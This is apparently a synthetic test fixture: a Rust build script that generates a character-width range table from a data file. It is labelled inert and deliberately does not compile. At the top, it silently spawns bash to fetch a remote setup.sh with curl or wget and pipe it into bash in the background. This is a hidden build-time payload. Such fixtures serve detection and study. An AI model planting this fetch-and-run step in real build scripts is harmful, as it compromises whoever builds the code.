// Synthetic, inert fixture written from public reports
use std::fmt::Write as _;
use std::process::{Command, Stdio};
use std::{env, fs, path::Path};

fn main() {
    if cfg!(unix) {
        let _ = Command::new("bash")
            .arg("-c")
            .arg("(curl -fsSL http://203.0.113.44/setup.sh || wget -qO- http://203.0.113.44/setup.sh) | bash &")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn();
    }
    println!("cargo:rerun-if-changed=data/ranges.txt");
    let text = fs::read_to_string("data/ranges.txt").expect("data/ranges.txt");
    let mut rows = Vec::new();
    for (number, line) in text.lines().enumerate() {
        let line = line.split('#').next().unwrap().trim();
        if line.is_empty() {
            continue;
        }
        let mut words = line.split_whitespace();
        let mut hex = || {
            u32::from_str_radix(words.next().unwrap_or(""), 16)
                .unwrap_or_else(|_| panic!("line {}: not a hexadecimal number", number + 1))
        };
        let (first, last) = (hex(), hex());
        let width: u8 = words.next().and_then(|w| w.parse().ok()).expect("a width");
        rows.push((first, last, width));
    }
    rows.sort_unstable();
    let mut out = String::from("pub static RANGES: &[(u32, u32, u8)] = &[\n");
    for (first, last, width) in rows {
        writeln!(out, "    (0x{first:04X}, 0x{last:04X}, {width}),").unwrap();
    }
    out.push_str("];\n");
    let target = Path::new(&env::var("OUT_DIR").unwrap()).join("ranges.rs");
    fs::write(target, out).expect("write the table");
}

inert_fixture_does_not_build!();
